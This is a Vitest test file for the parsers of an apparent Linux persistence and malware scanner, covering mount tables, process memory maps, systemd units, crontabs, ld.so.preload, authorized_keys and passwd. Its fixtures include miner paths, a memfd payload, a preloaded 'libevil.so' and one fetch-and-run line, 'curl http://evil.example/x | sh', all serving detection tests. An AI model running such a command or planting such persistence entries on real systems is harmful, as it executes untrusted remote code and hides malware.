import { readFileSync, statSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  anacronCommands,
  authorizedKeyCommands,
  bareProgram,
  commandPaths,
  cronCommands,
  encodeDev,
  exeTarget,
  mappedMemory,
  mountKind,
  parseMaps,
  parseMountinfo,
  preloadEntries,
  scanAccounts,
  unitCommands,
  xdgDownloadDir,
} from './scan-parsers.js';

const MOUNTINFO = [
  '22 27 0:21 / /proc rw,relatime - proc proc rw',
  '27 1 254:0 / / rw,relatime shared:1 - ext4 /dev/vda rw,discard',
  '42 27 254:0 /run/netns /run/netns rw,relatime shared:1 - ext4 /dev/vda rw,discard',
  '50 27 0:50 / /mnt/my\\040disk rw master:3 shared:9 - ext4 /dev/sdb\\0401 rw',
  '51 27 0:51 / /mnt/share rw - nfs4 server:/export rw,vers=4.2',
  '52 27 0:52 / /home/alice/remote rw,nosuid - fuse.sshfs alice@host: rw,user_id=1000,group_id=1000',
  '53 27 0:53 / /snap/core/100 ro - squashfs /dev/loop0 ro',
  '54 27 0:54 / /var/lib/docker/overlay2/x/merged rw - overlay overlay rw,lowerdir=/a,upperdir=/b',
  'garbage line',
  '55 27 0:55 / /tmp/tab\\011and\\134slash rw - tmpfs tmpfs rw',
].join('\n');

describe('parseMountinfo', () => {
  const mounts = parseMountinfo(MOUNTINFO);
  it.each([
    ['/proc', { device: '0:21', root: '/', fsType: 'proc', source: 'proc' }],
    ['/run/netns', { device: '254:0', root: '/run/netns', fsType: 'ext4' }],
    // \040 is a space in both the mount point and the source; optional fields (master:3 shared:9) end at '-'.
    ['/mnt/my disk', { device: '0:50', fsType: 'ext4', source: '/dev/sdb 1', superOptions: 'rw' }],
    ['/tmp/tab\tand\\slash', { fsType: 'tmpfs' }],
  ])('%s', (mountPoint, want) => {
    expect(mounts.find((m) => m.mountPoint === mountPoint)).toMatchObject(want);
  });
  it('skips malformed lines', () => {
    expect(mounts).toHaveLength(9);
  });
});

describe('mountKind', () => {
  const kinds = Object.fromEntries(parseMountinfo(MOUNTINFO).map((m) => [m.mountPoint, mountKind(m).kind]));
  it.each([
    ['/proc', 'pseudo'],
    ['/', 'local'],
    ['/mnt/share', 'network'],
    ['/home/alice/remote', 'user'],
    // Snaps are local software (store snaps have shipped miners); overlay is a container's root.
    ['/snap/core/100', 'local'],
    ['/var/lib/docker/overlay2/x/merged', 'local'],
    ['/tmp/tab\tand\\slash', 'local'],
  ])('%s is %s', (mountPoint, kind) => {
    expect(kinds[mountPoint]).toBe(kind);
  });
  it('says why a network or user file system is left out', () => {
    const [share, sshfs] = parseMountinfo(MOUNTINFO).filter((m) => m.fsType === 'nfs4' || m.fsType === 'fuse.sshfs');
    expect(mountKind(share!)).toEqual({ kind: 'network', reason: expect.stringContaining('nfs4 from server:/export') });
    expect(mountKind(sshfs!)).toEqual({ kind: 'user', reason: expect.stringContaining('uid 1000') });
  });
});

describe('parseMaps', () => {
  const MAPS = [
    '00400000-00452000 r-xp 00000000 08:02 173521      /usr/bin/dbus-daemon',
    '7f2c4b1a3000-7f2c4b1c5000 r--p 00000000 fd:01 1311092                    /usr/lib/x86_64-linux-gnu/libc.so.6',
    '7f2c4b200000-7f2c4b201000 rw-s 00000000 00:01 2048                       /memfd:payload (deleted)',
    '7f2c4b300000-7f2c4b301000 r-xp 00000000 08:02 99                         /tmp/.x/my miner (deleted)',
    '7f2c4b400000-7f2c4b401000 rw-s 00000000 00:05 32768                      /SYSV0000abcd (deleted)',
    '01e8c000-01ead000 rw-p 00000000 00:00 0                                  [heap]',
    '7ffd1b5e4000-7ffd1b605000 rw-p 00000000 00:00 0                          [stack]',
    '7f2c4b500000-7f2c4b501000 rw-p 00000000 00:00 0 ',
  ].join('\n');
  it('keeps file mappings, with map_files ranges, devices, and deleted ones noted', () => {
    expect(parseMaps(MAPS)).toEqual([
      { range: '400000-452000', dev: encodeDev(8, 2), inode: 173521, path: '/usr/bin/dbus-daemon', deleted: false },
      { range: '7f2c4b1a3000-7f2c4b1c5000', dev: encodeDev(0xfd, 1), inode: 1311092, path: '/usr/lib/x86_64-linux-gnu/libc.so.6', deleted: false },
      { range: '7f2c4b200000-7f2c4b201000', dev: encodeDev(0, 1), inode: 2048, path: '/memfd:payload', deleted: true },
      { range: '7f2c4b300000-7f2c4b301000', dev: encodeDev(8, 2), inode: 99, path: '/tmp/.x/my miner', deleted: true },
      { range: '7f2c4b400000-7f2c4b401000', dev: encodeDev(0, 5), inode: 32768, path: '/SYSV0000abcd', deleted: true },
    ]);
  });
  it('encodes devices as stat() does (checked on this machine)', () => {
    const self = parseMaps(readFileSync('/proc/self/maps', 'utf8')).find((m) => m.path === process.execPath);
    const st = statSync(process.execPath);
    expect(self && { dev: self.dev, inode: self.inode }).toEqual({ dev: st.dev, inode: st.ino });
  });
  it.each([
    ['/SYSV0000abcd', true],
    ['/anon_hugepage', true],
    ['/dev/zero', true],
    ['/dev/dri/card0', true],
    ['/dev/shm/x', false],
    ['/memfd:payload', false],
    ['/usr/lib/libc.so.6', false],
  ])('mappedMemory(%s) = %s', (path, want) => {
    expect(mappedMemory(path)).toBe(want);
  });
  it('reads deleted executables', () => {
    expect(exeTarget('/tmp/.x/miner (deleted)')).toEqual({ path: '/tmp/.x/miner', deleted: true });
    expect(exeTarget('/usr/bin/sshd')).toEqual({ path: '/usr/bin/sshd', deleted: false });
  });
});

describe('unitCommands', () => {
  it.each([
    ['plain', '[Service]\nExecStart=/usr/bin/foo --bar\n', ['/usr/bin/foo --bar']],
    ['prefixes -@:+! are taken off', '[Service]\nExecStartPre=-/bin/mkdir -p /run/x\nExecStart=@/usr/sbin/d d-argv0\nExecStartPost=+/usr/bin/a\nExecReload=!!/usr/bin/b\nExecStop=:/usr/bin/c $X\n', ['/bin/mkdir -p /run/x', '/usr/sbin/d d-argv0', '/usr/bin/a', '/usr/bin/b', '/usr/bin/c $X']],
    ['an empty assignment resets the list', '[Service]\nExecStart=/old\nExecStart=\nExecStart=/new\n', ['/new']],
    ['line continuation', '[Service]\nExecStart=/usr/bin/x \\\n  --flag\n', ['/usr/bin/x    --flag']],
    ['comments and other keys are ignored', '# ExecStart=/nope\n[Service]\nType=simple\n;ExecStart=/nope2\nEnvironment=X=/y\n', []],
    ['a desktop entry', '[Desktop Entry]\nType=Application\nExec=/home/a/.local/bin/agent --tray\n', ['/home/a/.local/bin/agent --tray']],
  ])('%s', (_name, text, want) => {
    expect(unitCommands(text)).toEqual(want);
  });
  it('expands %h in user units', () => {
    expect(unitCommands('[Service]\nExecStart=%h/.local/bin/x\n', { home: '/home/a' })).toEqual(['/home/a/.local/bin/x']);
  });
});

describe('cronCommands', () => {
  const SYSTEM = ['SHELL=/bin/sh', 'MAILTO = ""', '# m h dom mon dow user command', '17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly', '@reboot root /opt/x/start.sh --now', '*/5 * * * * www-data /usr/bin/php /var/www/cron.php > /dev/null 2>&1', '', 'bad line'].join('\n');
  it('system crontab: skips env assignments and the user field; reads @reboot', () => {
    expect(cronCommands(SYSTEM, { system: true })).toEqual(['cd / && run-parts --report /etc/cron.hourly', '/opt/x/start.sh --now', '/usr/bin/php /var/www/cron.php > /dev/null 2>&1']);
  });
  it.each([
    ['user crontab', '* * * * * /home/a/.x/miner -o pool\n', ['/home/a/.x/miner -o pool']],
    ['@reboot', '@reboot /tmp/.u/run\n', ['/tmp/.u/run']],
    ['% ends the command', '0 1 * * * /usr/bin/mail -s hi root%body%more\n', ['/usr/bin/mail -s hi root']],
    ['escaped % stays', '0 1 * * * /usr/bin/date +\\%s\n', ['/usr/bin/date +\\%s']],
    ['env assignment with spaces', 'PATH = /usr/bin:/bin\n', []],
  ])('%s', (_name, text, want) => {
    expect(cronCommands(text, { system: false })).toEqual(want);
  });
  it('anacrontab', () => {
    expect(anacronCommands('SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly /opt/m.sh\n')).toEqual(['run-parts --report /etc/cron.daily', '/opt/m.sh']);
  });
});

describe('commandPaths and bareProgram', () => {
  it.each([
    ['/usr/bin/php /var/www/cron.php > /dev/null 2>&1', ['/usr/bin/php', '/var/www/cron.php', '/dev/null']],
    ['LD_PRELOAD=/lib/x.so /bin/true', ['/lib/x.so', '/bin/true']],
    ['/usr/bin/x --config=/etc/x.conf;/usr/bin/y|/usr/bin/z', ['/usr/bin/x', '/etc/x.conf', '/usr/bin/y', '/usr/bin/z']],
    ['sh -c "/opt/a.sh && \'/opt/b c\'"', ['/opt/a.sh', '/opt/b']],
    ['curl http://evil.example/x | sh', []],
    ['export PATH=/usr/local/bin:$PATH', ['/usr/local/bin']],
    ['/opt/$VAR/x /opt/*.sh %h/x /tmp/', ['/tmp']],
  ])('%s', (cmd, want) => {
    expect(commandPaths(cmd)).toEqual(want);
  });
  it('finds a program named without a path where systemd and cron look', () => {
    expect(bareProgram('sleep 10')).toContain('/usr/bin/sleep');
    expect(bareProgram('FOO=1 miner -o x')).toContain('/usr/local/bin/miner');
    expect(bareProgram('/usr/bin/x')).toEqual([]);
  });
});

describe('other persistence files', () => {
  it('ld.so.preload: spaces, colons, newlines and comments', () => {
    expect(preloadEntries('# comment\n/lib/libevil.so:/usr/lib/b.so  libc2.so\n\t/x.so # trailing\n')).toEqual(['/lib/libevil.so', '/usr/lib/b.so', 'libc2.so', '/x.so']);
  });
  it('authorized_keys: forced commands, with escaped quotes, and not the key comment', () => {
    const text = [
      'ssh-ed25519 AAAAC3Nz user@host command="/not/an/option"',
      'no-pty,command="/usr/local/bin/backup --dir \\"/srv/b\\"",from="10.0.0.0/8" ssh-rsa AAAAB3 backup',
      'command="/home/a/.x/run" ecdsa-sha2-nistp256 AAAAE2 x',
      '# command="/commented"',
      'restrict,COMMAND="/upper" ssh-ed25519 AAAA',
    ].join('\n');
    expect(authorizedKeyCommands(text)).toEqual(['/usr/local/bin/backup --dir "/srv/b"', '/home/a/.x/run', '/upper']);
  });
  it('passwd: root and people, not system accounts or nobody', () => {
    const text = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nalice:x:1000:1000::/home/alice:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\nsvc:x:1001:1001::/:/bin/false\n+nis::::::\n';
    expect(scanAccounts(text)).toEqual([
      { user: 'root', uid: 0, home: '/root' },
      { user: 'alice', uid: 1000, home: '/home/alice' },
    ]);
  });
  it.each([
    ['XDG_DOWNLOAD_DIR="$HOME/Téléchargements"\n', '/home/a/Téléchargements'],
    ['XDG_DOWNLOAD_DIR="/data/dl/"\n', '/data/dl'],
    ['XDG_DOWNLOAD_DIR="$HOME"\n', null],
    ['XDG_DESKTOP_DIR="$HOME/Desktop"\n', null],
  ])('user-dirs.dirs %j', (text, want) => {
    expect(xdgDownloadDir(text, '/home/a')).toBe(want);
  });
});
